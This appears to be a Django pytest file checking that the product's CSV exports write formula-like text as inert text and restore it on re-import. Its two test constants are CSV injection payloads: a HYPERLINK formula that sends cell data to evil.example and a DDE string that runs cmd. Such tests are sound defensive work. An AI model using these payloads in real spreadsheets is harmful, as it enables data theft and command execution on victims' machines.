"""CSV injection: every CSV the product writes turns formula-like text into text (core.spreadsheet)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from rest_framework.test import APIClient

from accounts.tests.factories import UserFactory
from content.tests.factories import ContentPostFactory
from moderation.audit import audit_export_csv
from moderation.models import ModerationAuditEvent

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("https://evil.example/steal?d="&A1,"Invoice")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_team_export_csv_writes_formulas_as_text_and_reimports_them_unchanged(django_capture_on_commit_callbacks):
    owner = UserFactory()
    api = APIClient()
    api.force_authenticate(owner)
    ContentPostFactory(author=owner, team=owner.current_team, title=SUM, content=LINK, hashtags=[])

    with django_capture_on_commit_callbacks(execute=True):
        started = api.post("/api/exports/", {"format": "CSV"}, format="json")
    assert started.status_code == 202, started.content
    download = api.get(f"/api/exports/{started.json()['export']['id']}/download/")
    raw = b"".join(download.streaming_content)
    posts = _rows(zipfile.ZipFile(io.BytesIO(raw)).read("posts.csv").decode())

    assert posts[0]["content"] == "'" + LINK
    assert posts[0]["title"] == "'" + SUM

    preview = api.post("/api/imports/preview/", {"source": "contentgenai", "file": io.BytesIO(raw)}, format="multipart")
    assert preview.status_code == 200, preview.content
    assert [r["content"] for r in preview.json()["rows"]] == [LINK]


def test_moderation_audit_csv_writes_formulas_as_text():
    owner = UserFactory()
    event = ModerationAuditEvent.objects.create(team_id=owner.current_team.pk, kind="approved", note=LINK)
    rows = _rows(audit_export_csv([event]))
    assert rows[0]["note"] == "'" + LINK
